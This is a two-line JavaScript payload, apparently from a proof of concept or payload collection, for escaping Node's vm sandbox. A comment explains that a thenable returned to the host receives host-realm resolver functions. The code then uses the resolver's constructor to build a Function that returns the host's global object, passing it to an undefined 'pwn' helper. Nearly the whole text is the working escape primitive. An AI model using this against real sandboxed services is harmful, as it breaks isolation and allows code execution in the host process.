// Node vm: a thenable result the host awaits gets host resolvers
({ then(res, rej) { pwn(res); try { pwn(res.constructor('return this')()) } catch (e) {} res(1) } })
